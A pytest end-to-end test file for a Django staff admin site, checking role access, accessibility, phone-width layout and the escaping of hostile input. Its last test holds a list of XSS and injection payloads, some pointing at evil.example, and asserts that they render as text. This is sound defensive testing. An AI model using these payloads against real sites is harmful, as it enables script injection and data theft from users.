"""Each page of staff in a browser: it says nothing to the console, breaks no policy, fits a
telephone, reads well to a machine, and shows hostile text as text."""

import json
import re
import secrets

import pytest
from axe_playwright_python.base import AXE_SCRIPT

from config import staff as staff_pages
from tests.jobs.exported import ATTACKS

pytestmark = pytest.mark.timeout(300)
SERIOUS = ("serious", "critical")
# What is dark differs from what is light in its colours alone.
RULES = {"light": {}, "dark": {"runOnly": ["cat.color"]}}
# Without its way to name an element and to read style sheets again, which nobody looks at here, axe
# takes half as long.
RUN_AXE = """async rules => {
    const less = {resultTypes: ["violations"], selectors: false, preload: false};
    const results = await axe.run({...less, ...rules});
    return results.violations;
}"""
LISTS = [
    "django_celery_results/taskresult",
    "tenants/apikey",
    "tenants/apisession",
    "tenants/invitation",
    "tenants/oauthclient",
    "account/emailaddress",
    "mfa/authenticator",
    "usersessions/usersession",
    "accounts/signingkey",
]


@pytest.fixture
def paths(live):
    """(path, least role) of every page, with something to show, and of Django's lists."""
    done = live.submit(f"Staff MUST wash their hands. {secrets.token_hex(4)}")
    live.wait_for(done, "COMPLETED")
    live.script({"do": "refuse", "times": 1})
    lost = live.submit(f"Staff MUST wash their hands. {secrets.token_hex(4)}")
    live.wait_for(lost, "FAILED")
    group = live.until(lambda: live.rows("SELECT id FROM jobs_errorgroup LIMIT 1"))[0]["id"]
    tenant = live.rows("SELECT id FROM tenants_tenant WHERE slug = 'demo'")[0]["id"]
    person = live.rows("SELECT public_id FROM accounts_user ORDER BY id LIMIT 1")[0]["public_id"]
    circuit = live.rows("SELECT name FROM jobs_circuit LIMIT 1")
    live.rows(
        "INSERT INTO jobs_bulkaction (name, kind, token, filter, rate, actor, reason, state,"
        " last_id, until_id, total, changed, skipped) VALUES ('e2e', 'retry', gen_random_uuid(),"
        " '{}', 10, 'a', 'r', 'done', 0, 0, 0, 0, '{}') RETURNING id"
    )
    held = {
        "<uuid:event_id>": lost,
        "<uuid:tenant_id>": tenant,
        "<uuid:public_id>": person,
        "<slug:code>": "standard",
        "<str:client_id>": live.stack.client["client_id"],
        "<path:circuit>": circuit[0]["name"] if circuit else "127.0.0.1/guidepost-offline-1",
    }
    found = []
    for page in staff_pages.pages():
        path = page.route
        number = live.rows("SELECT max(id) AS id FROM jobs_bulkaction")[0]["id"]
        path = path.replace("<int:pk>", str(number if "bulk" in path else group))
        for name, value in held.items():
            path = path.replace(name, str(value))
        assert "<" not in path, path
        found.append((f"/admin/{path}", page.view.least))
    return found + [(f"/admin/{each}/", staff_pages.StaffRole.VIEWER) for each in LISTS]


# Who may open what is asked in tests/security/test_staff_matrix.py.
def test_each_page_opens_for_a_viewer_who_may_see_it_and_the_browser_has_no_complaint(
    live, staff, paths
):
    page = staff("viewer")

    for path, least in paths:
        allowed = staff_pages.StaffRole.VIEWER.includes(least)
        assert page.goto(live.url + path).status == (200 if allowed else 403), path


def test_each_page_opens_without_complaint_reads_well_to_a_machine_and_fits_a_telephone(
    live, staff, paths
):
    page = staff("administrator")  # forms of acts ask for a fresh sign-in
    page.add_init_script(AXE_SCRIPT)  # which no policy of the page stops
    wrong = []
    for path, _ in paths:
        page.set_viewport_size({"width": 1280, "height": 900})
        assert page.goto(live.url + path).status == 200, path
        for scheme, rules in RULES.items():
            page.emulate_media(color_scheme=scheme)
            for finding in page.evaluate(RUN_AXE, rules):
                if finding["impact"] in SERIOUS:
                    places = [node["html"][:120] for node in finding["nodes"][:3]]
                    wrong.append((path, scheme, finding["id"], places))
        page.set_viewport_size({"width": 390, "height": 844})
        if page.evaluate("document.documentElement.scrollWidth") > 390:
            wrong.append((path, "is wider than a telephone"))

    assert wrong == [], json.dumps(wrong, indent=1)


def test_hostile_text_of_tenants_and_models_opens_nothing_and_asks_for_nothing(live, staff):
    more = [
        "<svg onload=alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "javascript:alert(1)",
        "<a href=javascript:alert(1)>x</a>",
        "<base href=https://evil.example>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<form action=https://evil.example><button>x</button></form>",
        "<style>@import 'https://evil.example/x.css'</style>",
        "</mark></div></section><img src=https://evil.example/x onerror=alert(1)>",
        "' onmouseover=alert(1) x='",
        '" autofocus onfocus=alert(1) x="',
        "\u202egnp.exe",
        "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
        "<a href='jav&#x09;ascript:alert(1)'>x</a>",
        "<img src=https://evil.example/p?q=",
        "<details open ontoggle=alert(1)>x</details>",
        "<body onload=alert(1)>",
        "<math><mtext></mtext><script>alert(1)</script></math>",
        "<object data=https://evil.example></object><embed src=https://evil.example>",
        "<template><script>alert(1)</script></template>",
        "</script><script>alert(1)</script>",
    ]
    attacks = [
        each
        for each in [*ATTACKS, *more]
        if "\0" not in each and not re.search("[\ud800-\udfff]", each)
    ]
    text = "\n\n".join(f"Staff MUST {attack} at once." for attack in attacks)
    metadata = {attack[:30]: attack[:60] for attack in attacks[:10]}  # a KB at most
    body = {
        "guideline_text": f"{text}\n{secrets.token_hex(4)}",
        "title": "<img src=https://evil.example/t onerror=alert(1)>\"'><script>alert(1)</script>",
        "metadata": metadata,
        "options": {"cache": False},
    }
    status, _, job = live.request("POST", "/jobs", body)
    assert status == 202, job
    live.wait_for(job["event_id"], "COMPLETED")
    for attack in attacks:
        live.request("POST", "/keys", {"name": attack[:100], "scopes": ["jobs:read"]})
    page = staff("operator")
    tenant = live.rows("SELECT id FROM tenants_tenant WHERE slug = 'demo'")[0]["id"]
    one = f"{live.url}/admin/jobs/job/{job['event_id']}/"
    page.goto(f"{one}reveal/")
    page.get_by_label("Reason").fill("<script>alert(1)</script>")
    page.locator("form.act button").click()
    page.wait_for_url(f"{one}text/")
    assert page.locator("main script, main iframe, main style, main form").count() == 0

    for place in (
        one,
        f"{live.url}/admin/jobs/job/",
        f"{live.url}/admin/jobs/job/?metadata=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
        f"{live.url}/admin/tenants/tenant/{tenant}/",
        f"{live.url}/admin/tenants/audit/?object_id={job['event_id']}",
        f"{live.url}/admin/tenants/audit/?action=key.created",
        f"{live.url}/admin/tenants/apikey/",
        f"{live.url}/admin/",
    ):
        page.goto(place)
        page.wait_for_timeout(200)
        assert page.locator("main [onerror], main [onload], main iframe").count() == 0, place
